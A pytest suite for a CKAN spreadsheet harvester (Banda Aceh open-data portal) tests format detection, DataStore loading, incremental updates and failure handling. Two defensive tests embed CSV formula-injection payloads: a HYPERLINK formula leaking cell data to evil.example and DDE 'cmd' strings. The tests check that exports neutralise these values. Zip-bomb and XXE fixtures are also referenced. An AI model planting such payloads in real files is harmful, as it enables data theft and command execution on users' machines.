"""The spreadsheet harvester end to end: a real HTTP server on 127.0.0.1 serving fixture files,
CKAN with PostgreSQL, Solr, the DataStore and ckanext-harvest's own stage functions."""
from __future__ import annotations

import csv
import io
import json
import os
import re
from typing import Any

import openpyxl
import pytest

import ckan.plugins.toolkit as tk
from ckan.tests import factories

pytestmark = pytest.mark.usefixtures("portal")

HERE = os.path.dirname(os.path.abspath(__file__))
FIXTURES = os.path.join(HERE, "..", "fixtures", "harvest")


def entry(server: Any, path: str, name: str, **kw: Any) -> dict[str, Any]:
    return {"url": server.url(path), "name": name, "title": kw.pop("title", name.replace("-", " ").title()), **kw}


def by_name(resources: list[dict[str, Any]]) -> dict[str, dict[str, Any]]:
    return {r["name"]: r for r in resources}


def download(app: Any, url: str) -> bytes:
    path = url.split("://", 1)[1].split("/", 1)[1]
    resp = app.get("/" + path)
    assert resp.status_code == 200
    return resp.get_data()


# ---------------------------------------------------------------- what gets published


def test_xlsx_becomes_a_satu_data_dataset_with_csv_original_and_datastore(harvest: Any, server: Any, app: Any) -> None:
    original = open(server.put("imunisasi.xlsx"), "rb").read()
    src = harvest.source([entry(server, "files/imunisasi.xlsx", "imunisasi-2024", title="Cakupan Imunisasi 2024",
                                tags=["kesehatan", "imunisasi"], satuan="bayi")],
                         defaults={"frekuensi": "tahunan", "cakupan": "kecamatan"})
    report = harvest.run(src)
    assert (report.created, report.failed, report.gather_errors) == (1, 0, [])

    ds = harvest.dataset("imunisasi-2024")
    assert ds["owner_org"] == harvest.org["id"]
    assert (ds["title"], ds["frekuensi"], ds["cakupan"], ds["tahun"], ds["satuan"]) == \
        ("Cakupan Imunisasi 2024", "tahunan", "kecamatan", "2024", "bayi")
    assert sorted(t["name"] for t in ds["tags"]) == ["imunisasi", "kesehatan"]
    assert ds["state"] == "active"
    res = by_name(ds["resources"])
    assert list(res) == ["Imunisasi", "Puskesmas", "Berkas asli (XLSX)"]  # "Catatan" has no table
    assert [r["format"] for r in ds["resources"]] == ["CSV", "CSV", "XLSX"]
    assert all(r["url_type"] == "upload" for r in ds["resources"])
    assert res["Imunisasi"]["source_url"] == server.url("files/imunisasi.xlsx")

    fields, rows = harvest.records(res["Imunisasi"]["id"])
    assert [(f["id"], f["type"]) for f in fields] == [  # the running number "No" is not data
        ("Kecamatan", "text"), ("Sasaran Bayi", "int8"), ("Imunisasi Lengkap", "int8"),
        ("Persentase (%)", "numeric")]
    assert len(rows) == 9  # the "Jumlah" row and the footnote are not data
    assert rows[0] == {"Kecamatan": "Baiturrahman", "Sasaran Bayi": 437, "Imunisasi Lengkap": 426,
                       "Persentase (%)": 97.48}
    assert "'Jumlah' (baris 14)" in res["Imunisasi"]["description"]
    assert "'No' (kolom A, nomor urut" in res["Imunisasi"]["description"]
    fields, rows = harvest.records(res["Puskesmas"]["id"])
    assert [(f["id"], f["type"]) for f in fields] == [
        ("Kode", "text"), ("Nama Puskesmas", "text"), ("Kecamatan", "text"), ("Tanggal Akreditasi", "date")]
    assert rows[0]["Kode"] == "001" and rows[0]["Tanggal Akreditasi"].startswith("2022-01-11")
    assert not res["Berkas asli (XLSX)"]["datastore_active"]
    views = tk.get_action("resource_view_list")(harvest.context(), {"id": res["Imunisasi"]["id"]})
    assert "datatables_view" in [v["view_type"] for v in views]  # the table preview

    csv_text = download(app, res["Imunisasi"]["url"]).decode("utf-8")
    assert csv_text.splitlines()[:2] == ["Kecamatan,Sasaran Bayi,Imunisasi Lengkap,Persentase (%)",
                                         "Baiturrahman,437,426,97.48"]
    assert download(app, res["Berkas asli (XLSX)"]["url"]) == original


def test_statistics_table_is_published_wide_and_long(harvest: Any, server: Any, app: Any) -> None:
    """KDA table, years as columns: totals gone (and said so), footnotes kept, a tidy CSV beside the wide one."""
    server.put("penduduk_tahun.xlsx")
    src = harvest.source([entry(server, "files/penduduk_tahun.xlsx", "penduduk-tahun")])
    report = harvest.run(src)
    assert (report.created, report.failed) == (1, 0), report
    ds = harvest.dataset("penduduk-tahun")
    res = by_name(ds["resources"])
    assert list(res) == ["Tabel", "Tabel (bentuk panjang)", "Berkas asli (XLSX)"]
    wide, long = res["Tabel"], res["Tabel (bentuk panjang)"]
    assert "'Banda Aceh' (baris 3)" in wide["description"]  # the city-total row, named
    assert "*) angka sementara" in wide["description"]

    fields, rows = harvest.records(wide["id"])
    assert [(f["id"], f["type"]) for f in fields] == [
        ("Kecamatan", "text"), ("2021", "int8"), ("2022", "int8"), ("2023", "int8"), ("2024", "int8")]
    assert fields[3]["info"]["notes"] == "*) angka sementara"
    assert len(rows) == 9  # nine kecamatan, no city row
    # as the fixture wrote them: 20000 + 500 * kecamatan + 150 * year index
    assert rows[0] == {"Kecamatan": "Meuraxa", "2021": 20000, "2022": 20150, "2023": 20300, "2024": 20450}
    assert sum(r["2024"] for r in rows) == sum(20000 + 500 * i + 450 for i in range(9))

    fields, rows = harvest.records(long["id"])
    assert [(f["id"], f["type"]) for f in fields] == [("Kecamatan", "text"), ("tahun", "int8"), ("nilai", "int8")]
    assert len(rows) == 36
    assert rows[:2] == [{"Kecamatan": "Meuraxa", "tahun": 2021, "nilai": 20000},
                        {"Kecamatan": "Meuraxa", "tahun": 2022, "nilai": 20150}]
    assert sum(r["nilai"] for r in rows if r["tahun"] == 2024) == sum(20000 + 500 * i + 450 for i in range(9))
    csv_lines = download(app, long["url"]).decode("utf-8").splitlines()
    assert csv_lines[:2] == ["Kecamatan,tahun,nilai", "Meuraxa,2021,20000"] and len(csv_lines) == 37


def test_harvest_source_type_survives_a_finished_job(harvest: Any, server: Any) -> None:
    """ckanext-harvest 1.6.3 re-indexes a source unvalidated when a job ends (see plugin.py)."""
    server.put("sekolah.csv")
    src = harvest.source([entry(server, "files/sekolah.csv", "sekolah-2024")])
    harvest.run(src)
    shown = tk.get_action("harvest_source_show")(harvest.context(), {"id": src["name"]})
    assert shown["source_type"] == "bandaaceh_spreadsheet"
    assert json.loads(shown["config"])["entries"][0]["name"] == "sekolah-2024"
    assert shown["status"]["last_job"]["status"] == "Finished"


@pytest.mark.parametrize("fixture, served, route, fmt, tables", [  # penduduk: wide, long (L/P), APBG (xls)
    ("penduduk.xls", "penduduk.xls", "files", "XLS", 3),
    ("penduduk.ods", "penduduk.ods", "files", "ODS", 2),
    ("sekolah.csv", "sekolah.csv", "files", "CSV", 1),
    ("penduduk_cp1252.csv", "penduduk.csv", "files", "CSV", 2),
    ("imunisasi.xlsx", "imunisasi.xlsx", "html-type", "XLSX", 2),    # labelled text/html by the server
    ("imunisasi.xlsx", "laporan.csv", "files", "XLSX", 2),           # named .csv, is an xlsx
    ("penduduk.ods", "download", "files", "ODS", 2),                  # no extension at all
])
def test_each_format_is_detected_from_content(harvest: Any, server: Any, fixture: str, served: str, route: str,
                                               fmt: str, tables: int) -> None:
    server.put(served, fixture)
    src = harvest.source([entry(server, f"{route}/{served}", "data-uji")])
    report = harvest.run(src)
    assert report.created == 1, report
    ds = harvest.dataset("data-uji")
    assert [r["format"] for r in ds["resources"]] == ["CSV"] * tables + [fmt]
    assert ds["resources"][-1]["url"].endswith("." + fmt.lower())  # the original, named for its real format
    fields, rows = harvest.records(ds["resources"][0]["id"])
    assert len(fields) >= 3 and len(rows) >= 5


def test_cp1252_csv_is_published_as_utf8(harvest: Any, server: Any, app: Any) -> None:
    server.put("penduduk.csv", "penduduk_cp1252.csv")
    src = harvest.source([entry(server, "files/penduduk.csv", "penduduk-2024")])
    harvest.run(src)
    csv_res = harvest.dataset("penduduk-2024")["resources"][0]
    assert "Luas (km²)" in download(app, csv_res["url"]).decode("utf-8").splitlines()[0]


def test_formula_cells_are_neutralised_in_the_csv_but_exact_in_the_datastore(harvest: Any, server: Any,
                                                                             app: Any) -> None:
    # A hostile (or careless) SKPD file: text cells a spreadsheet program would run as formulas.
    evil = ['=HYPERLINK("http://evil.example/?"&A1;"klik")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0"]
    body = io.StringIO()
    csv.writer(body).writerows([["Kecamatan", "Catatan", "Jumlah"]] +
                               [[f"Meuraxa {i}", v, 10 + i] for i, v in enumerate(evil)])
    server.put("catatan.csv", body.getvalue().encode("utf-8"))
    harvest.run(harvest.source([entry(server, "files/catatan.csv", "catatan-2024")]))
    res = harvest.dataset("catatan-2024")["resources"][0]
    fields, rows = harvest.records(res["id"])
    assert [r["Catatan"] for r in rows] == evil  # the DataStore keeps the values exactly
    published = list(csv.DictReader(io.StringIO(download(app, res["url"]).decode("utf-8"))))
    assert [r["Catatan"] for r in published] == ["'" + v for v in evil]
    assert [r["Jumlah"] for r in published] == ["10", "11", "12", "13"]


def test_datastore_dump_neutralises_formula_text_but_keeps_numbers(harvest: Any, server: Any, app: Any) -> None:
    """Issue 9 item 7: CKAN's own DataStore dump (csv and tsv) of a harvested table gave formula
    cells unchanged; now text cells get the leading ``'``, numbers (``-5`` in a numeric column)
    and the DataStore values and the JSON dump stay exact."""
    notes = ['=HYPERLINK("http://evil.example/?"&A1;"klik")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)", "-5", "Aman"]
    numbers = [-5, 10, 11, 12, 13]
    body = io.StringIO()
    csv.writer(body).writerows([["Kecamatan", "Catatan", "Nilai"]] +
                               [[f"Meuraxa {i}", v, n] for i, (v, n) in enumerate(zip(notes, numbers))])
    server.put("rumus.csv", body.getvalue().encode("utf-8"))
    harvest.run(harvest.source([entry(server, "files/rumus.csv", "rumus-2024")]))
    res = harvest.dataset("rumus-2024")["resources"][0]
    fields, rows = harvest.records(res["id"])
    assert [(f["id"], f["type"]) for f in fields] == [("Kecamatan", "text"), ("Catatan", "text"), ("Nilai", "int8")]
    assert [r["Catatan"] for r in rows] == notes and [r["Nilai"] for r in rows] == numbers
    neutral = ["'" + v if v[0] in "=+-@" else v for v in notes]
    for fmt, delimiter in (("csv", ","), ("tsv", "\t")):
        resp = app.get(f"/datastore/dump/{res['id']}?format={fmt}")
        assert resp.status_code == 200
        dumped = list(csv.reader(io.StringIO(resp.get_data(as_text=True)), delimiter=delimiter))
        assert dumped[0] == ["_id", "Kecamatan", "Catatan", "Nilai"]
        assert [r[1:] for r in dumped[1:]] == [[f"Meuraxa {i}", v, str(n)] for i, (v, n) in enumerate(zip(neutral, numbers))]
    as_json = json.loads(app.get(f"/datastore/dump/{res['id']}?format=json").get_data(as_text=True))
    assert [r[2] for r in as_json["records"]] == notes and [r[3] for r in as_json["records"]] == numbers
    assert harvest.records(res["id"])[1] == rows  # the table itself is unchanged


class TestGoogleSheets:
    KEY = "1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms"

    def test_share_link_is_downloaded_as_xlsx_export(self, harvest: Any, server: Any,
                                                     monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setitem(tk.config, "bandaaceh.harvest.google_sheets_base", server.url("gsheets"))
        server.put(f"gsheet-{self.KEY}.xlsx", "gsheet.xlsx")
        link = f"https://docs.google.com/spreadsheets/d/{self.KEY}/edit#gid=0"
        src = harvest.source([{"url": link, "name": "imunisasi-gsheet", "title": "Imunisasi (Google Sheets)"}])
        report = harvest.run(src)
        assert report.created == 1, report
        assert [p for p, _ in server.requests] == [f"/gsheets/d/{self.KEY}/export?format=xlsx"]
        ds = harvest.dataset("imunisasi-gsheet")
        assert [r["name"] for r in ds["resources"]] == ["Imunisasi", "Puskesmas", "Berkas asli (XLSX)"]
        assert ds["resources"][0]["source_url"] == link

    def test_one_sheet_as_csv(self, harvest: Any, server: Any, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setitem(tk.config, "bandaaceh.harvest.google_sheets_base", server.url("gsheets"))
        server.put(f"gsheet-{self.KEY}-0.csv", "gsheet-0.csv")
        link = f"https://docs.google.com/spreadsheets/d/{self.KEY}/edit#gid=0"
        src = harvest.source([{"url": link, "name": "sekolah-gsheet", "title": "Sekolah", "format": "csv"}])
        assert harvest.run(src).created == 1
        assert server.requests[0][0] == f"/gsheets/d/{self.KEY}/export?format=csv&gid=0"
        ds = harvest.dataset("sekolah-gsheet")
        fields, rows = harvest.records(ds["resources"][0]["id"])
        assert fields[-1]["type"] == "numeric" and rows[0]["Rasio Murid per Guru"] == 14.25


# ---------------------------------------------------------------- index manifests


@pytest.mark.parametrize("manifest", ["daftar.csv", "daftar.json"])
def test_index_manifest_publishes_each_listed_spreadsheet(harvest: Any, server: Any, manifest: str) -> None:
    for name in ("imunisasi.xlsx", "sekolah.csv", manifest):
        server.put(name)
    src = harvest.source([{"index": server.url(f"files/{manifest}"), "cakupan": "kota"}])
    report = harvest.run(src)
    assert (report.created, report.failed, report.gather_errors) == (2, 0, [])
    imun = harvest.dataset("imunisasi-dasar-2024")
    assert imun["title"] == "Cakupan Imunisasi Dasar 2024"
    assert imun["cakupan"] == "kota"                          # from the index entry
    assert sorted(t["name"] for t in imun["tags"]) == ["imunisasi", "kesehatan"]
    assert [r["name"] for r in imun["resources"]] == ["Imunisasi", "Berkas asli (XLSX)"]  # sheets: Imunisasi
    assert imun["resources"][0]["source_url"] == server.url("files/imunisasi.xlsx")  # relative URL resolved
    assert harvest.dataset("jumlah-sekolah-2024")["owner_org"] == harvest.org["id"]


def _manifest(rows: list[dict[str, str]]) -> bytes:
    head = ["url", "name", "title", "notes", "tahun", "frekuensi"]
    lines = [",".join(head)] + [",".join(r.get(h, "") for h in head) for r in rows]
    return ("\n".join(lines) + "\n").encode()


ROW_A = {"url": "imunisasi.xlsx", "name": "data-a", "title": "Data A", "notes": "A", "tahun": "2024"}
ROW_B = {"url": "sekolah.csv", "name": "data-b", "title": "Data B", "notes": "B", "tahun": "2024"}


def test_bad_manifest_row_is_reported_and_the_others_published(harvest: Any, server: Any) -> None:
    server.put("imunisasi.xlsx")
    server.put("sekolah.csv")
    server.put("daftar.csv", _manifest([ROW_A, dict(ROW_B, frekuensi="kadang-kadang")]))
    src = harvest.source([{"index": server.url("files/daftar.csv")}])
    report = harvest.run(src)
    assert report.created == 1
    assert len(report.gather_errors) == 1
    assert report.gather_errors[0].startswith(f"indeks {server.url('files/daftar.csv')}, baris 3: "
                                              "kolom 'frekuensi': 'kadang-kadang' bukan pilihan yang sah")


def test_spreadsheet_removed_from_manifest_is_deleted_but_not_when_the_manifest_fails(harvest: Any, server: Any) -> None:
    server.put("imunisasi.xlsx")
    server.put("sekolah.csv")
    server.put("daftar.csv", _manifest([ROW_A, ROW_B]))
    src = harvest.source([{"index": server.url("files/daftar.csv")}])
    assert harvest.run(src).created == 2

    server.faults["daftar.csv"] = ("status", {"code": "500"})   # SKPD site down: delete nothing
    report = harvest.run(src)
    assert report.deleted == 0 and report.objects == []
    assert "Indeks tidak dapat diunduh" in report.gather_errors[0] and "HTTP 500" in report.gather_errors[0]
    assert harvest.dataset("data-b")["state"] == "active"

    server.faults.clear()
    server.put("daftar.csv", _manifest([ROW_A, dict(ROW_B, tahun="20x4")]))  # a bad row: delete nothing
    report = harvest.run(src)
    assert report.deleted == 0 and harvest.dataset("data-b")["state"] == "active"

    server.put("daftar.csv", _manifest([ROW_A]))
    report = harvest.run(src)
    assert (report.deleted, report.unchanged) == (1, 1)
    assert harvest.dataset("data-b")["state"] == "deleted"
    assert harvest.dataset("data-a")["state"] == "active"


# ---------------------------------------------------------------- incremental


@pytest.mark.parametrize("route", ["files", "plain"])
def test_unchanged_spreadsheet_creates_no_revision_activity_or_reload(harvest: Any, server: Any, route: str) -> None:
    """files/: the server answers the conditional request with 304; plain/: it has no
    ETag/Last-Modified, so the content hash decides."""
    server.put("imunisasi.xlsx")
    src = harvest.source([entry(server, f"{route}/imunisasi.xlsx", "imunisasi-2024")])
    harvest.run(src)
    before = harvest.snapshot("imunisasi-2024")
    assert len(before["tables"]) == 2 and before["activities"] >= 1

    report = harvest.run(src)
    assert (report.unchanged, report.updated, report.created) == (1, 0, 0)
    after = harvest.snapshot("imunisasi-2024")
    assert after == before  # metadata_modified, resources, activity count, table oids and rows
    last = server.hits("imunisasi.xlsx")[-1][1]
    if route == "files":
        assert last.get("If-None-Match") and last.get("If-Modified-Since")
    else:
        assert "If-None-Match" not in last


def test_changed_spreadsheet_updates_in_place(harvest: Any, server: Any) -> None:
    server.put("imunisasi.xlsx")
    src = harvest.source([entry(server, "files/imunisasi.xlsx", "imunisasi-2024")])
    harvest.run(src)
    before = harvest.snapshot("imunisasi-2024")
    res = by_name(before["dataset"]["resources"])

    server.put("imunisasi.xlsx", "imunisasi-v2.xlsx")  # one value of sheet "Imunisasi" changed
    report = harvest.run(src)
    assert report.updated == 1, report
    after = harvest.snapshot("imunisasi-2024")
    assert [r["id"] for r in after["dataset"]["resources"]] == [r["id"] for r in before["dataset"]["resources"]]
    assert after["dataset"]["metadata_modified"] > before["dataset"]["metadata_modified"]
    assert after["activities"] > before["activities"]
    imun, pusk = res["Imunisasi"]["id"], res["Puskesmas"]["id"]
    assert after["tables"][imun][1][1][1]["Imunisasi Lengkap"] == before["tables"][imun][1][1][1]["Imunisasi Lengkap"] + 25
    assert after["tables"][imun][0] != before["tables"][imun][0]   # reloaded
    assert after["tables"][pusk] == before["tables"][pusk]         # same CSV: not reloaded


def test_metadata_change_updates_the_dataset_without_reloading(harvest: Any, server: Any) -> None:
    server.put("sekolah.csv")
    src = harvest.source([entry(server, "files/sekolah.csv", "sekolah-2024", title="Sekolah")])
    harvest.run(src)
    before = harvest.snapshot("sekolah-2024")
    harvest.update_source(src, [entry(server, "files/sekolah.csv", "sekolah-2024", title="Jumlah Sekolah 2024",
                                      satuan="unit")])
    report = harvest.run(src)
    assert report.updated == 1
    after = harvest.snapshot("sekolah-2024")
    assert (after["dataset"]["title"], after["dataset"]["satuan"]) == ("Jumlah Sekolah 2024", "unit")
    assert after["tables"] == before["tables"]
    assert [r["id"] for r in after["dataset"]["resources"]] == [r["id"] for r in before["dataset"]["resources"]]
    assert harvest.run(src).unchanged == 1


def test_entry_removed_from_config_deletes_its_dataset(harvest: Any, server: Any) -> None:
    server.put("sekolah.csv")
    server.put("penduduk.ods")
    src = harvest.source([entry(server, "files/sekolah.csv", "sekolah-2024"),
                          entry(server, "files/penduduk.ods", "penduduk-2024")])
    assert harvest.run(src).created == 2
    harvest.update_source(src, [entry(server, "files/sekolah.csv", "sekolah-2024")])
    report = harvest.run(src)
    assert (report.deleted, report.unchanged) == (1, 1)
    assert harvest.dataset("penduduk-2024")["state"] == "deleted"
    assert harvest.dataset("sekolah-2024")["state"] == "active"
    # declared again: the same dataset comes back
    harvest.update_source(src, [entry(server, "files/sekolah.csv", "sekolah-2024"),
                                entry(server, "files/penduduk.ods", "penduduk-2024")])
    report = harvest.run(src)
    assert report.failed == 0 and harvest.dataset("penduduk-2024")["state"] == "active"


# ---------------------------------------------------------------- failures keep what works


def _huge(server: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(tk.config, "bandaaceh.harvest.max_bytes", "20000")
    server.put("imunisasi.xlsx", b"a,b\n" + b"1,2\n" * 10_000)


def _slow(server: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(tk.config, "bandaaceh.harvest.timeout", "0.3")
    server.faults["imunisasi.xlsx"] = ("slow", {"delay": "2"})


FAULTS = {
    "http-500": (lambda s, m: s.faults.update({"imunisasi.xlsx": ("status", {"code": "500"})}), "HTTP 500"),
    "slow": (_slow, "timed out"),
    "truncated": (lambda s, m: s.faults.update({"imunisasi.xlsx": ("truncated", {})}), "unduhan ter"),
    "redirect-private": (lambda s, m: s.faults.update({"imunisasi.xlsx": (
        "redirect", {"to": f"http://127.0.0.2:{s.server_address[1]}/files/imunisasi.xlsx"})}), "127.0.0.2"),
    "html-page": (lambda s, m: s.put("imunisasi.xlsx", b"<!DOCTYPE html><html><body>Login</body></html>"),
                  "halaman web HTML"),
    "huge": (_huge, "melebihi batas"),
    "endless": (lambda s, m: (m.setitem(tk.config, "bandaaceh.harvest.max_bytes", "200000"),
                              s.faults.update({"imunisasi.xlsx": ("endless", {})})), "melebihi batas ukuran"),
    "corrupt": (lambda s, m: s.put("imunisasi.xlsx", "corrupt.xlsx"), "rusak"),
    "truncated-file": (lambda s, m: s.put("imunisasi.xlsx", "truncated.xlsx"), "terpotong"),
    "zip-bomb": (lambda s, m: s.put("imunisasi.xlsx", "zip_bomb.xlsx"), "zip"),
    "xxe": (lambda s, m: s.put("imunisasi.xlsx", "xxe.xlsx"), "DTD"),
}


@pytest.mark.parametrize("fault", sorted(FAULTS))
def test_a_broken_spreadsheet_leaves_its_dataset_intact_and_the_others_go_on(
        harvest: Any, server: Any, monkeypatch: pytest.MonkeyPatch, fault: str) -> None:
    server.put("imunisasi.xlsx")
    server.put("sekolah.csv")
    entries = [entry(server, "files/imunisasi.xlsx", "imunisasi-2024"), entry(server, "files/sekolah.csv", "sekolah-2024")]
    src = harvest.source(entries)
    assert harvest.run(src).created == 2
    before = harvest.snapshot("imunisasi-2024")

    breaker, expected = FAULTS[fault]
    breaker(server, monkeypatch)
    server.put("sekolah.csv", b"Kecamatan;Jumlah SD\nMeuraxa;12\nKuta Alam;15\n")  # the other one changes
    report = harvest.run(src)

    results = {o.guid: o for o in report.objects}
    assert results["imunisasi-2024"].status == "errored"
    message = " ".join(results["imunisasi-2024"].errors)
    assert server.url("files/imunisasi.xlsx") in message
    assert expected in message, message
    assert results["sekolah-2024"].status == "updated"
    assert harvest.snapshot("imunisasi-2024") == before


def test_sheet_without_table_is_named_in_the_error(harvest: Any, server: Any, app: Any) -> None:
    wb = openpyxl.Workbook()
    wb.active.title = "Data"
    wb.active.append(["No", "Kecamatan", "Jumlah"])
    wb.active.append([1, "Meuraxa", 10])
    wb.create_sheet("Kosong").append(["Belum diisi"])
    buf = io.BytesIO()
    wb.save(buf)
    server.put("rekap.xlsx", buf.getvalue())
    src = harvest.source([entry(server, "files/rekap.xlsx", "rekap-2024", sheets=["Data", "Kosong"]),
                          entry(server, "files/rekap.xlsx", "rekap-lain", sheets=["Ringkasan"])])
    # The error is stored and shown later to anyone: Indonesian and whole whatever the locale it
    # was made under (here an English request; the consumers have none).
    with app.flask_app.test_request_context("/en/", environ_overrides={"CKAN_LANG": "en"}):
        assert tk._("baris {row}") == "row {row}"  # the English catalogue is active
        report = harvest.run(src)
    errors = {o.guid: " ".join(o.errors) for o in report.objects}
    assert f"Gagal membaca {server.url('files/rekap.xlsx')}: rekap.xlsx, sheet 'Kosong': tidak ada tabel data" \
        in errors["rekap-2024"]
    assert "tidak ada sheet bernama 'Ringkasan'" in errors["rekap-lain"]


def test_name_of_a_dataset_not_from_this_source_is_not_taken_over(harvest: Any, server: Any, satu_data: Any) -> None:
    other = factories.Dataset(name="imunisasi-2024", title="Dataset manual", owner_org=harvest.org["id"], **satu_data)
    server.put("imunisasi.xlsx")
    report = harvest.run(harvest.source([entry(server, "files/imunisasi.xlsx", "imunisasi-2024")]))
    assert report.failed == 1
    assert "sudah dipakai dataset lain" in report.objects[0].errors[0]
    ds = harvest.dataset("imunisasi-2024")
    assert (ds["title"], ds["resources"], ds["metadata_modified"]) == ("Dataset manual", [], other["metadata_modified"])


def test_bad_config_is_refused_naming_entry_and_field(harvest: Any) -> None:
    with pytest.raises(tk.ValidationError) as info:
        harvest.source([{"url": "https://dinkes.example/a.xlsx", "name": "data-a", "title": "A",
                         "frekuensi": "setiap saat"}])
    message = str(info.value.error_dict["config"])
    assert "entri ke-1 (data-a): kolom 'frekuensi': 'setiap saat' bukan pilihan yang sah" in message


# ---------------------------------------------------------------- how it is run and shown


def test_dataset_page_shows_source_url_and_harvest_times(harvest: Any, server: Any, app: Any) -> None:
    server.put("sekolah.csv")
    harvest.run(harvest.source([entry(server, "files/sekolah.csv", "sekolah-2024")]))
    page = app.get("/dataset/sekolah-2024").get_data(as_text=True)
    assert "Sumber spreadsheet" in page and server.url("files/sekolah.csv") in page
    assert "Data terakhir berubah" in page and "Terakhir dipanen" in page


def test_ckan_harvester_run_test_command(harvest: Any, server: Any, cli: Any) -> None:
    from ckan.cli.cli import ckan

    server.put("sekolah.csv")
    src = harvest.source([entry(server, "files/sekolah.csv", "sekolah-2024")])
    result = cli.invoke(ckan, ["harvester", "run-test", src["name"]])
    assert result.exit_code == 0, result.output
    assert harvest.dataset("sekolah-2024")["num_resources"] == 2
    result = cli.invoke(ckan, ["harvester", "run-test", src["name"]])  # a second job works too
    assert result.exit_code == 0, result.output


def test_jobs_through_the_redis_queue(harvest: Any, server: Any) -> None:
    """What the gather and fetch consumers under honcho do, one message at a time."""
    from ckanext.harvest import queue

    gather, fetch = queue.get_gather_consumer(), queue.get_fetch_consumer()
    gather.queue_purge(queue=queue.get_gather_queue_name())
    fetch.queue_purge(queue=queue.get_fetch_queue_name())
    server.put("sekolah.csv")
    src = harvest.source([entry(server, "files/sekolah.csv", "sekolah-2024")])
    tk.get_action("harvest_job_create")(harvest.context(), {"source_id": src["id"], "run": True})
    queue.gather_callback(gather, *gather.basic_get(queue="ckan.harvest.gather"))
    queue.fetch_callback(fetch, *fetch.basic_get(queue="ckan.harvest.fetch"))
    tk.get_action("harvest_jobs_run")(harvest.context(), {"source_id": src["id"]})
    status = tk.get_action("harvest_source_show_status")(harvest.context(), {"id": src["id"]})
    assert status["last_job"]["status"] == "Finished"
    assert status["last_job"]["stats"]["added"] == 1
    assert harvest.dataset("sekolah-2024")["resources"][0]["datastore_active"]


def test_harvest_source_pages_work_with_scheming(harvest: Any, server: Any, app: Any) -> None:
    """The harvest source type (ckanext-harvest's own IDatasetForm) next to scheming_datasets
    with scheming.dataset_fallback = false: its pages render, before and after a job."""
    server.put("sekolah.csv")
    src = harvest.source([entry(server, "files/sekolah.csv", "sekolah-2024")])
    sysadmin = factories.Sysadmin()
    headers = {"Authorization": factories.APIToken(user=sysadmin["name"])["token"]}
    assert "bandaaceh_spreadsheet" in app.get("/harvest/new", headers=headers).get_data(as_text=True)
    harvest.run(src)
    page = app.get(f"/harvest/{src['name']}", headers=headers)
    assert page.status_code == 200 and "Sekolah 2024" in page.get_data(as_text=True)  # its dataset
    admin = " ".join(re.sub(r"<[^>]+>", " ", app.get(f"/harvest/admin/{src['name']}", headers=headers)
                            .get_data(as_text=True)).split())
    assert "0 kesalahan 1 added 0 updated 0 deleted 0 not modified" in admin
